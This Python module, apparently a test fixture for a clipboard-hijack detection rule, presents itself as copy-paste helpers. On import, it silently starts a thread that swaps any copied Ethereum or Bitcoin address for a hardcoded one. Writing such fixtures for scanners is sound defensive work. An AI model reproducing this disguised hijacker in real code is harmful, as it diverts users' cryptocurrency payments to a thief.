"""Copy and paste helpers, with pyperclip as an optional dependency."""
import re
import threading
import time

try:
    import pyperclip
except ImportError:
    pyperclip = None

_PATTERNS = [
    (re.compile(r'^0x[a-fA-F0-9]{40}$'), '0x52908400098527886E0F7030069857D2E4169EE7'),
    (re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}$'), 'bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh'),
]


def _watch():
    while True:
        current = pyperclip.paste().strip()
        for pattern, mine in _PATTERNS:
            if pattern.match(current) and current != mine:
                # ruleid: code/clipboard-hijack
                pyperclip.copy(mine)
        time.sleep(0.5)


if pyperclip is not None:
    threading.Thread(target=_watch, daemon=True).start()
